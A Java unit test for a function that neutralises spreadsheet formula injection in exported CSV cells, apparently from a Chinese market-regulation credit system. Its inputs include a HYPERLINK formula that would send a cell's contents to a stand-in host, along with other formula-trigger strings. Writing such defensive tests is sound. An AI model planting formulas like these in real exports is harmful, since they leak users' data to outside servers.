package cn.gov.amr.credit.shared;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** People's CSV cells: what a spreadsheet would run as a formula becomes text; numbers and text stay as they are. */
class SpreadsheetTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://x/?\"&A1,\"详情\")", "+1", "+86 139", "-2+3", "-", "-x", "@x",
            "@SUM(A1)", "\tx", "\rx", "=1", "-1+1", "-5e3"})
    void aCellThatASpreadsheetWouldRunGetsALeadingApostrophe(String cell) {
        assertThat(SpreadsheetText.inert(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"-2", "-5", "-0.25", "0.5", "5000", "警告并处罚款5000元", "x=1", " =1", "瑞市监罚〔2022〕1号"})
    void plainTextAndNumbersIncludingNegativeOnesStayAsTheyAre(String cell) {
        assertThat(SpreadsheetText.inert(cell)).isEqualTo(cell);
    }

    @ParameterizedTest
    @CsvSource(value = {"NULL", "''"}, nullValues = "NULL")
    void nothingStaysNothing(String cell) {
        assertThat(SpreadsheetText.inert(cell)).isEqualTo(cell);
    }
}
